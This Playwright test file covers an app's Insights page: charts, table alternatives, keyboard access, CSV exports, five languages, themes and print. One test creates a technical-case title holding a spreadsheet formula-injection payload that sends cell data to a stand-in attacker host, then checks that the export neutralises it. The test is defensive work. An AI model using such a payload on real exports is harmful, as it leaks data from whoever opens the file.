import { test, expect, expectNoAxeViolations, signIn, LOCALES, USERS } from './fixtures';
import type { Download, Page } from '@playwright/test';
import * as fs from 'node:fs';
import * as path from 'node:path';

/**
 * Issue 17: the Insights page (`/insights`). Every figure on the page is checked against
 * the API's series (formatted here with Node's own Intl, as the app formats them with the
 * browser's), never against the page itself: the summaries, the table alternative, the
 * keyboard stops' names and the CSV files. Also: the chart's keyboard access, the CSV of
 * the benefits table (with its filter) and of the technical cases (a hostile title is
 * neutralised), five languages, themes, a 320 px screen and print.
 */

const PATH = '/insights';

type SalesMonth = {
  month: string;
  billed_cents: number;
  excluded_fraudulent_cents: number;
  ttm_cents: number;
  tier: string;
  crossed_into: string | null;
};
type BenefitsMonth = {
  month: string;
  available: number;
  activated: number;
  in_progress: number;
  completed: number;
  expired: number;
};

async function api<T = any>(page: Page, path: string): Promise<T> {
  const response = await page.request.get(`/api/v1${path}`);
  expect(response.ok(), `${path} answers ${response.status()}`).toBeTruthy();
  return (await response.json()) as T;
}

const money = (locale: string, cents: number) =>
  new Intl.NumberFormat(locale, {
    style: 'currency',
    currency: 'USD',
    currencyDisplay: 'narrowSymbol',
    minimumFractionDigits: cents % 100 === 0 ? 0 : 2,
    maximumFractionDigits: cents % 100 === 0 ? 0 : 2,
  }).format(cents / 100);
const compact = (locale: string, cents: number) =>
  new Intl.NumberFormat(locale, {
    style: 'currency',
    currency: 'USD',
    currencyDisplay: 'narrowSymbol',
    notation: 'compact',
    minimumFractionDigits: 0,
    maximumFractionDigits: 1,
  }).format(cents / 100);
const TIER_CENTS: Record<string, number> = {
  usd500: 50_000,
  usd25k: 2_500_000,
  usd50k: 5_000_000,
  usd100k: 10_000_000,
};
const tier = (locale: string, name: string) => (name === 'publisher' ? 'Publisher' : compact(locale, TIER_CENTS[name]));
const month = (locale: string, iso: string) =>
  new Intl.DateTimeFormat(locale, { month: 'long', year: 'numeric', timeZone: 'UTC' }).format(new Date(`${iso}T00:00:00Z`));
const num = (locale: string, n: number) => new Intl.NumberFormat(locale).format(n);

async function openInsights(page: Page) {
  await signIn(page, USERS.megan, PATH);
  await expect(page.locator('main h1')).toHaveText('Insights');
  await expect(page.locator('#insights-sales .chart__svg')).toBeVisible();
  await expect(page.locator('#insights-benefits .chart__svg')).toBeVisible();
}

async function csvOf(download: Download): Promise<string> {
  const file = await download.path();
  return fs.readFileSync(file!, 'utf8');
}

/** RFC 4180 lines of a CSV: CRLF ends every line, the document starts with the BOM. */
function lines(csv: string): string[] {
  expect(csv.startsWith('\uFEFF'), 'UTF-8 byte-order mark').toBeTruthy();
  expect(csv.endsWith('\r\n')).toBeTruthy();
  return csv.slice(1, -2).split('\r\n');
}

const dollars = (cents: number) => (cents / 100).toFixed(2);

/** A locale file of the app (the names and words the page must show, from the source). */
const localeFile = (locale: string, file: string) =>
  JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../locales', locale, `${file}.json`), 'utf8'));

type TechnicalBenefitUse = {
  benefit_id: string;
  key: string;
  status: string;
  unit: 'hours' | 'incidents' | 'consultations';
  allocated: number | null;
  drawn_down: number;
  remaining: number | null;
  cases: number;
};
type UsageMonth = { month: string; seats_sold: number | null; monthly_active_users: number | null; tier: string | null };
type AppUsage = { offer_id: string; name: string; months: UsageMonth[]; thresholds: { tier: string; monthly_active_users: number }[] };

const UNIT_ONE = { hours: 'hour', incidents: 'incident', consultations: 'consultation' };
const STATUS: Record<string, string> = {
  available: 'Available',
  activated: 'Activated',
  in_progress: 'In progress',
  completed: 'Completed',
  expired: 'Expired',
  revoked: 'Revoked',
};
const unitWord = (unit: TechnicalBenefitUse['unit'], n: number) => (n === 1 ? UNIT_ONE[unit] : unit);
const figures = (b: TechnicalBenefitUse) =>
  b.allocated === null
    ? `${num('en', b.drawn_down)} ${unitWord(b.unit, b.drawn_down)} used, no limit`
    : `${num('en', b.drawn_down)} of ${num('en', b.allocated)} ${unitWord(b.unit, b.allocated)} used, ${num('en', b.remaining!)} left`;

test.describe('insights', () => {
  test('the sales chart: summary, table and keyboard stops agree with the API', async ({ page }) => {
    await openInsights(page);
    const sales = await api<{ months: SalesMonth[] }>(page, '/insights/sales');
    const overview = await api(page, '/rewards/overview');
    const m = sales.months;
    expect(m).toHaveLength(24);
    expect(m[23].ttm_cents).toBe(overview.billed_sales_ttm_cents);

    const chart = page.getByRole('region', { name: 'Billed sales by month' }).first();
    const verb = m[23].ttm_cents > m[0].ttm_cents ? 'rose' : m[23].ttm_cents < m[0].ttm_cents ? 'fell' : 'stayed';
    expect(verb, 'the demo history rises').toBe('rose');
    await expect(page.locator('#insights-sales-summary')).toHaveText(
      `Trailing-twelve-month billed sales rose from ${money('en', m[0].ttm_cents)} in ${month('en', m[0].month)} to ${money('en', m[23].ttm_cents)} in ${month('en', m[23].month)}.`,
    );
    const crossing = [...m].reverse().find((x) => x.crossed_into);
    expect(crossing?.crossed_into).toBe('usd50k');
    await expect(page.locator('#insights-sales .chart__note')).toContainText(
      `Your company last reached a new tier, ${tier('en', crossing!.crossed_into!)}, in ${month('en', crossing!.month)}.`,
    );
    // Tier thresholds are drawn and named; the crossing is marked.
    await expect(page.locator('#insights-sales .chart__rule text')).toHaveText(['$500', '$25K', '$50K', '$100K']);
    await expect(page.locator('#insights-sales .chart__mark text').last()).toHaveText('$50K');
    await expectNoAxeViolations(page, 'insights, charts');

    // Keyboard: one tab stop on the last month, arrows, Home and End move between months.
    const label = (x: SalesMonth) =>
      `${month('en', x.month)}: billed ${money('en', x.billed_cents)}, trailing twelve months ${money('en', x.ttm_cents)}, tier ${tier('en', x.tier)}.` +
      (x.crossed_into ? ` Reached the ${tier('en', x.crossed_into)} tier this month.` : '');
    await page.locator('#insights-sales .chart__scroll').focus();
    await page.keyboard.press('Tab');
    const focused = page.locator('#insights-sales .chart__hit:focus');
    await expect(focused).toHaveAttribute('aria-label', label(m[23]));
    await expect(page.locator('#insights-sales .chart__readout')).toHaveText(label(m[23]));
    await page.keyboard.press('Home');
    await expect(focused).toHaveAttribute('aria-label', label(m[0]));
    await page.keyboard.press('ArrowRight');
    await expect(focused).toHaveAttribute('aria-label', label(m[1]));
    const crossedAt = m.findIndex((x) => x.crossed_into === 'usd50k');
    for (let i = 1; i < crossedAt; i++) await page.keyboard.press('ArrowRight');
    await expect(focused).toHaveAttribute('aria-label', label(m[crossedAt]));
    await expect(focused).toHaveAttribute('tabindex', '0');
    await expect(page.locator('#insights-sales .chart__hit[tabindex="0"]')).toHaveCount(1);
    await expectNoAxeViolations(page, 'insights, a month focused');
    await page.keyboard.press('End');
    await expect(focused).toHaveAttribute('aria-label', label(m[23]));
    await expect(chart).toBeVisible();

    // The table alternative holds the same numbers.
    const toggle = page.locator('#insights-sales').getByRole('button', { name: 'Show as table' });
    await expect(toggle).toHaveAttribute('aria-pressed', 'false');
    await toggle.click();
    await expect(toggle).toHaveAttribute('aria-pressed', 'true');
    await expect(page.locator('#insights-sales .chart__svg')).toBeHidden();
    const table = page.getByRole('table', { name: 'Billed sales by month' });
    await expect(table.locator('thead th')).toHaveText([
      'Month',
      'Billed sales in the month',
      'Left out (fraudulent)',
      'Trailing twelve months',
      'Tier',
      'Tier reached',
    ]);
    const rows = table.locator('tbody tr');
    await expect(rows).toHaveCount(24);
    for (let i = 0; i < 24; i++) {
      const x = m[i];
      await expect(rows.nth(i).locator('th, td')).toHaveText([
        month('en', x.month),
        money('en', x.billed_cents),
        money('en', x.excluded_fraudulent_cents),
        money('en', x.ttm_cents),
        tier('en', x.tier),
        x.crossed_into ? tier('en', x.crossed_into) : '',
      ]);
    }
    expect(m.some((x) => x.excluded_fraudulent_cents > 0), 'a fraudulent sale is left out').toBeTruthy();
    await expectNoAxeViolations(page, 'insights, sales as a table');
    await toggle.click();
    await expect(page.locator('#insights-sales .chart__svg')).toBeVisible();
  });

  test('the benefits chart and its table agree with the API', async ({ page }) => {
    await openInsights(page);
    const series = await api<{ months: BenefitsMonth[] }>(page, '/insights/benefits');
    const m = series.months;
    const total = (x: BenefitsMonth) => x.available + x.activated + x.in_progress + x.completed + x.expired;
    const counts = (x: BenefitsMonth) =>
      `${num('en', x.available)} available, ${num('en', x.activated)} activated, ${num('en', x.in_progress)} in progress, ${num('en', x.completed)} completed, ${num('en', x.expired)} expired`;
    await expect(page.locator('#insights-benefits-summary')).toHaveText(
      `Your company had ${total(m[0])} benefits in ${month('en', m[0].month)} and ${total(m[23])} in ${month('en', m[23].month)}: ${counts(m[23])}.`,
    );
    expect(m[23].expired, 'the demo has expired benefits').toBeGreaterThan(0);
    await expect(page.locator('#insights-benefits .chart__legend li')).toHaveText([
      'Available',
      'Activated',
      'In progress',
      'Completed',
      'Expired',
    ]);
    await page.locator('#insights-benefits').getByRole('button', { name: 'Show as table' }).click();
    const rows = page.getByRole('table', { name: 'Benefits over time' }).locator('tbody tr');
    await expect(rows).toHaveCount(24);
    for (const i of [0, 12, 23]) {
      const x = m[i];
      await expect(rows.nth(i).locator('th, td')).toHaveText([
        month('en', x.month),
        ...[x.available, x.activated, x.in_progress, x.completed, x.expired].map((n) => num('en', n)),
      ]);
    }
    await expectNoAxeViolations(page, 'insights, benefits as a table');
  });

  test('each chart downloads its data as CSV with the same figures', async ({ page }) => {
    await openInsights(page);
    const sales = await api<{ as_of: string; months: SalesMonth[] }>(page, '/insights/sales');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('#insights-sales').getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`billed-sales-by-month-${sales.as_of}.csv`);
    const salesLines = lines(await csvOf(download));
    expect(salesLines[0]).toBe(
      'Month,Billed sales (USD),"Left out, fraudulent (USD)",Trailing twelve months (USD),Tier threshold (USD),"Tier reached (threshold, USD)"',
    );
    expect(salesLines).toHaveLength(25);
    sales.months.forEach((x, i) => {
      expect(salesLines[i + 1]).toBe(
        [
          x.month.slice(0, 7),
          dollars(x.billed_cents),
          dollars(x.excluded_fraudulent_cents),
          dollars(x.ttm_cents),
          dollars(x.tier === 'publisher' ? 0 : TIER_CENTS[x.tier]),
          x.crossed_into ? dollars(TIER_CENTS[x.crossed_into]) : '',
        ].join(','),
      );
    });

    const benefits = await api<{ as_of: string; months: BenefitsMonth[] }>(page, '/insights/benefits');
    const [second] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('#insights-benefits').getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    const benefitLines = lines(await csvOf(second));
    expect(benefitLines[0]).toBe('Month,Available,Activated,In progress,Completed,Expired');
    benefits.months.forEach((x, i) => {
      expect(benefitLines[i + 1]).toBe(
        [x.month.slice(0, 7), x.available, x.activated, x.in_progress, x.completed, x.expired].join(','),
      );
    });
  });

  test('technical benefit use: bars, summary, table, keyboard and CSV agree with the API', async ({ page }) => {
    await openInsights(page);
    const use = await api<{ as_of: string; benefits: TechnicalBenefitUse[] }>(page, '/insights/technical-use');
    const names = localeFile('en', 'domain').benefit_names as Record<string, string>;
    const b = use.benefits;
    // The demo's resolved cases used advisory hours and support incidents.
    expect(b.filter((x) => x.drawn_down > 0).map((x) => x.key).sort()).toEqual(['presales_deployment_advisory', 'support_incidents']);
    // The draw-down is the benefits list's (what the Technical tab shows).
    const list = await api(page, '/benefits?category=technical');
    for (const x of b) {
      const listed = list.benefits.find((item: any) => item.benefit.id === x.benefit_id);
      expect(x.drawn_down, x.key).toBe(listed.benefit.drawn_down);
    }
    const section = page.locator('#insights-technical');
    await expect(section.locator('h2')).toHaveText('Technical benefit use');
    await expect(page.locator('#insights-technical-summary')).toHaveText(
      `Your resolved technical cases have drawn on your technical benefits: ${b.map((x) => `${names[x.key]} (${figures(x)})`).join('; ')}.`,
    );
    await expect(section.locator('.chart__row-label')).toHaveText(b.map((x) => names[x.key]));
    await expect(section.locator('.chart__row-figures')).toHaveText(b.map(figures));
    // Used bars only where something was used; their length is the share of the allocation.
    const tracks = await section.locator('svg.chart__svg .chart__s2 rect:not(.chart__pattern)').evaluateAll((r) =>
      r.map((e) => e.getBoundingClientRect().width),
    );
    const used = await section.locator('svg.chart__svg .chart__s0 rect:not(.chart__pattern)').evaluateAll((r) =>
      r.map((e) => e.getBoundingClientRect().width),
    );
    const counted = b.filter((x) => x.allocated !== null);
    expect(tracks).toHaveLength(counted.length);
    const drawn = counted.filter((x) => x.drawn_down > 0);
    expect(used).toHaveLength(drawn.length);
    drawn.forEach((x, i) => expect(used[i] / tracks[0]).toBeCloseTo(Math.min(1, x.drawn_down / x.allocated!), 2));
    await expect(section.locator('.chart__legend li')).toHaveText(['Used', 'Left']);
    await expect(section.locator('.chart__readout')).toHaveText(
      'Move to a benefit with the arrow keys or point at it to read its values.',
    );
    await expectNoAxeViolations(page, 'insights, technical use');

    // Keyboard: one tab stop (the first benefit) after the section's buttons; arrows move.
    const label = (x: TechnicalBenefitUse) =>
      `${names[x.key]} (${STATUS[x.status]}): ${figures(x)}; resolved cases: ${num('en', x.cases)}.`;
    await section.getByRole('button', { name: 'Download CSV' }).focus();
    await page.keyboard.press('Tab');
    const focused = section.locator('.chart__hit:focus');
    await expect(focused).toHaveAttribute('aria-label', label(b[0]));
    await expect(section.locator('.chart__readout')).toHaveText(label(b[0]));
    await page.keyboard.press('ArrowDown');
    await expect(focused).toHaveAttribute('aria-label', label(b[1]));
    await page.keyboard.press('End');
    await expect(focused).toHaveAttribute('aria-label', label(b[b.length - 1]));
    await expect(section.locator('.chart__hit[tabindex="0"]')).toHaveCount(1);
    await expectNoAxeViolations(page, 'insights, a technical benefit focused');

    // The table alternative.
    await section.getByRole('button', { name: 'Show as table' }).click();
    const table = page.getByRole('table', { name: 'Technical benefit use' });
    await expect(table.locator('thead th')).toHaveText(['Benefit', 'Status', 'Unit', 'Allocation', 'Used', 'Left', 'Resolved cases']);
    await expect(table.locator('tbody tr')).toHaveCount(b.length);
    for (let i = 0; i < b.length; i++) {
      const x = b[i];
      await expect(table.locator('tbody tr').nth(i).locator('th, td')).toHaveText([
        names[x.key],
        STATUS[x.status],
        x.unit,
        x.allocated === null ? 'Unlimited' : num('en', x.allocated),
        num('en', x.drawn_down),
        x.remaining === null ? 'Unlimited' : num('en', x.remaining),
        num('en', x.cases),
      ]);
    }
    await expectNoAxeViolations(page, 'insights, technical use as a table');

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      section.getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`technical-benefit-use-${use.as_of}.csv`);
    const rows = lines(await csvOf(download));
    expect(rows[0]).toBe('Benefit,Status,Unit,Allocation,Used,Left,Resolved cases');
    expect(rows.slice(1)).toEqual(
      b.map((x) => [names[x.key], STATUS[x.status], x.unit, x.allocated ?? '', x.drawn_down, x.remaining ?? '', x.cases].join(',')),
    );
  });

  test('Microsoft 365 apps: seats and users by month agree with the API', async ({ page }) => {
    await openInsights(page);
    const usage = await api<{ as_of: string; apps: AppUsage[] }>(page, '/insights/m365-usage');
    expect(usage.apps).toHaveLength(1);
    const app = usage.apps[0];
    const m = app.months;
    expect(m).toHaveLength(24);
    // The app is a Microsoft 365 offer of the company, and its last month is today's figure.
    const overview = await api(page, '/rewards/overview');
    const offer = overview.publisher_profiles
      .flatMap((p: any) => p.offers)
      .find((o: any) => o.offer.id === app.offer_id);
    expect(offer.offer.name).toBe(app.name);
    expect(m[23].monthly_active_users).toBe(offer.monthly_active_users);
    expect(overview.users_tier.monthly_active_users).toBe(offer.monthly_active_users);
    const section = page.locator('#insights-m365');
    const title = `${app.name}: seats sold and monthly active users`;
    await expect(section.locator('h2')).toHaveText(title);
    const withUsers = m.filter((x) => x.monthly_active_users !== null);
    const first = withUsers[0];
    const last = withUsers[withUsers.length - 1];
    const seats = [...m].reverse().find((x) => x.seats_sold !== null)!;
    await expect(page.locator('#insights-m365-summary')).toHaveText(
      `${app.name} went from ${num('en', first.monthly_active_users!)} monthly active users in ${month('en', first.month)} to ` +
        `${num('en', last.monthly_active_users!)} in ${month('en', last.month)}. Seats sold in ${month('en', seats.month)}: ${num('en', seats.seats_sold!)}.`,
    );
    await expect(section.locator('.chart__legend li')).toHaveText(['Seats sold', 'Monthly active users', 'Tier threshold']);
    await expect(section.locator('.chart__rule text')).toHaveText(app.thresholds.map((t) => tier('en', t.tier)));
    // One bar per month with seats, one dot per month with users.
    await expect(section.locator('svg.chart__svg .chart__bar')).toHaveCount(m.filter((x) => (x.seats_sold ?? 0) > 0).length);
    await expect(section.locator('svg.chart__svg .chart__line circle')).toHaveCount(withUsers.length);
    expect(m.some((x) => x.seats_sold === null), 'seats only since the offer went live').toBeTruthy();
    await expectNoAxeViolations(page, 'insights, Microsoft 365 apps');

    const value = (n: number | null) => (n === null ? 'no figure' : num('en', n));
    const label = (x: UsageMonth) =>
      `${month('en', x.month)}: ${value(x.seats_sold)} seats sold, ${value(x.monthly_active_users)} monthly active users.`;
    await section.locator('.chart__scroll').focus();
    await page.keyboard.press('Tab');
    const focused = section.locator('.chart__hit:focus');
    await expect(focused).toHaveAttribute('aria-label', label(m[23]));
    await page.keyboard.press('Home');
    await expect(focused).toHaveAttribute('aria-label', label(m[0]));
    await page.keyboard.press('ArrowRight');
    await expect(focused).toHaveAttribute('aria-label', label(m[1]));
    await expectNoAxeViolations(page, 'insights, a Microsoft 365 month focused');

    await section.getByRole('button', { name: 'Show as table' }).click();
    const rows = page.getByRole('table', { name: title }).locator('tbody tr');
    await expect(rows).toHaveCount(24);
    for (let i = 0; i < 24; i++) {
      const x = m[i];
      await expect(rows.nth(i).locator('th, td')).toHaveText([
        month('en', x.month),
        value(x.seats_sold),
        value(x.monthly_active_users),
        x.tier ? tier('en', x.tier) : '',
      ]);
    }
    await expectNoAxeViolations(page, 'insights, Microsoft 365 as a table');

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      section.getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`m365-usage-${app.offer_id}-${usage.as_of}.csv`);
    const csv = lines(await csvOf(download));
    expect(csv[0]).toBe('Month,Seats sold,Monthly active users,Tier by users');
    expect(csv.slice(1)).toEqual(
      m.map((x) => [x.month.slice(0, 7), x.seats_sold ?? '', x.monthly_active_users ?? '', x.tier ? tier('en', x.tier) : ''].join(',')),
    );
  });

  test('no Microsoft 365 app: one sentence instead of a chart', async ({ page }) => {
    await page.route('**/api/v1/insights/m365-usage', (route) =>
      route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ as_of: '2026-12-06', apps: [] }) }),
    );
    await openInsights(page);
    const section = page.locator('section[aria-labelledby="insights-m365-title"]');
    await expect(section.locator('h2')).toHaveText('Microsoft 365 apps');
    await expect(section.locator('p')).toHaveText(
      'Your company has no Microsoft 365 app, so there are no seats or monthly active users to show.',
    );
    await expect(section.locator('svg')).toHaveCount(0);
    await expectNoAxeViolations(page, 'insights without a Microsoft 365 app');
  });

  test('the benefits table downloads what its filter shows', async ({ page }) => {
    await signIn(page, USERS.megan, '/benefits/sales-marketing');
    await expect(page.locator('.benefit-table')).toBeVisible();
    await page.getByLabel('Status').selectOption('available');
    const expected = await api(page, '/benefits?category=sales_marketing&status=available');
    await expect(page.locator('.benefit-table > tbody')).toHaveCount(expected.benefits.length);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    const rows = lines(await csvOf(download));
    expect(rows[0]).toBe('Benefit,Offer,Status,Activate by,Tier threshold (USD)');
    expect(rows).toHaveLength(expected.benefits.length + 1);
    for (const row of rows.slice(1)) expect(row).toContain(',Available,');
    for (const item of expected.benefits) {
      const offer = item.offer_name ?? '';
      expect(rows.some((r) => r.includes(offer) && r.includes(item.benefit.activate_by ?? ''))).toBeTruthy();
    }
    await expectNoAxeViolations(page, 'benefits table with the export button');
  });

  test('the technical cases CSV writes a formula-looking title as text', async ({ page }) => {
    await signIn(page, USERS.megan, '/technical-requests/new');
    const hostile = `=HYPERLINK("http://attacker.example/?leak="&A1,"Open") ${Date.now()}`;
    const created = await page.request.post('/api/v1/technical-requests', {
      headers: { 'Idempotency-Key': crypto.randomUUID() },
      data: {
        phase: 'design',
        solution_type: 'cloud',
        title: hostile,
        description: 'A request whose title looks like a spreadsheet formula.',
        products: ['Azure SQL'],
        phone: '+44 20 7946 0000',
        country_region: 'GB',
        time_zone: 'Europe/London',
        language: 'en',
        preferred_contact_time: '',
      },
    });
    expect(created.status()).toBe(201);
    const { request } = await created.json();
    await page.reload();
    await expect(page.locator('.tr-list__table')).toContainText(request.case_number);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('.tr-list').getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    const rows = lines(await csvOf(download));
    expect(rows[0]).toBe('Case number,Title,Phase,Status,Created');
    const list = await api(page, '/technical-requests');
    expect(rows).toHaveLength(list.requests.length + 1);
    const row = rows.find((r) => r.startsWith(`${request.case_number},`));
    // Quoted (it holds commas and quotes), quotes doubled, and an apostrophe first: text, not a formula.
    const quoted = `"'${hostile.replace(/"/g, '""')}"`;
    expect(row).toBe(`${request.case_number},${quoted},Design,Submitted,${request.created_at.slice(0, 10)}`);
    expect(row).not.toContain(`,${hostile}`);
  });

  test('five languages: the page, its figures and the CSV header follow the language', async ({ page }) => {
    test.slow();
    await openInsights(page);
    const sales = await api<{ months: SalesMonth[] }>(page, '/insights/sales');
    const last = sales.months[23];
    const headings: Record<string, string> = {
      en: 'Insights',
      nl: 'Inzichten',
      fr: 'Analyses',
      sv: 'Insikter',
      'zh-TW': '深入分析',
    };
    for (const locale of LOCALES) {
      await page.getByLabel(/^(Language|Taal|Langue|Språk|語言)$/).selectOption(locale);
      await expect(page.locator('html')).toHaveAttribute('lang', locale);
      await expect(page.locator('main h1')).toHaveText(headings[locale]);
      await expect(page.getByRole('navigation').getByRole('link', { name: headings[locale] })).toHaveAttribute('aria-current', 'page');
      const summary = page.locator('#insights-sales-summary');
      await expect(summary).toContainText(money(locale, last.ttm_cents));
      await expect(summary).toContainText(month(locale, last.month));
      await expect(summary).toContainText(money(locale, sales.months[0].ttm_cents));
      const texts = localeFile(locale, 'insights');
      await expect(page.locator('#insights-technical h2')).toHaveText(texts.technical.title);
      await expect(page.locator('#insights-m365-summary')).toContainText(month(locale, sales.months[23].month));
      await expectNoAxeViolations(page, `insights in ${locale}`);
    }
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('#insights-benefits .chart__actions button').nth(1).click(),
    ]);
    expect(lines(await csvOf(download))[0]).toBe('月份,可用,已啟用,進行中,已完成,已過期');
  });

  test('320 px: no page scroll sideways; the chart scrolls in its own focusable region', async ({ page }) => {
    await page.setViewportSize({ width: 320, height: 800 });
    await openInsights(page);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    const region = page.locator('#insights-sales .chart__scroll');
    const scrolls = await region.evaluate((el) => el.scrollWidth > el.clientWidth);
    expect(scrolls).toBeTruthy();
    // It starts at the latest months.
    await expect
      .poll(() => region.evaluate((el) => el.scrollLeft + el.clientWidth >= el.scrollWidth - 1))
      .toBeTruthy();
    await page.locator('#insights-sales').getByRole('button', { name: 'Download CSV' }).focus();
    await page.keyboard.press('Tab');
    await expect(region).toBeFocused();
    const outline = await region.evaluate((el) => getComputedStyle(el).outlineStyle);
    expect(outline).toBe('solid');
    await expectNoAxeViolations(page, 'insights at 320 px');
  });

  for (const media of [
    { colorScheme: 'dark' as const },
    { contrast: 'more' as const },
    { forcedColors: 'active' as const },
  ]) {
    test(`theme ${JSON.stringify(media)}: zero axe violations, chart and table`, async ({ page }) => {
      await page.emulateMedia(media);
      await openInsights(page);
      await expectNoAxeViolations(page, `insights ${JSON.stringify(media)}`);
      await page.locator('#insights-sales').getByRole('button', { name: 'Show as table' }).click();
      await expectNoAxeViolations(page, `insights table ${JSON.stringify(media)}`);
    });
  }

  test('print: no navigation, charts and tables both on the page, link addresses shown', async ({ page }) => {
    await openInsights(page);
    await page.emulateMedia({ media: 'print' });
    await expect(page.locator('nav.shell__nav')).toBeHidden();
    await expect(page.locator('header.shell__header')).toBeHidden();
    await expect(page.locator('#insights-sales .chart__svg')).toBeVisible();
    await expect(page.getByRole('table', { name: 'Billed sales by month' })).toBeVisible();
    await expect(page.getByRole('table', { name: 'Benefits over time' })).toBeVisible();
    await expect(page.locator('.chart__actions').first()).toBeHidden();
    await page.emulateMedia({ media: 'screen' });
    await page.goto('/');
    await expect(page.getByTestId('overview-sales')).toBeVisible();
    await page.emulateMedia({ media: 'print' });
    const after = await page
      .locator('main a[href]')
      .first()
      .evaluate((a) => [getComputedStyle(a, '::after').content, a.getAttribute('href')]);
    expect(after[0]).toBe(`" (${after[1]})"`);
    const widthOk = await page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth);
    expect(widthOk).toBeTruthy();
  });
});
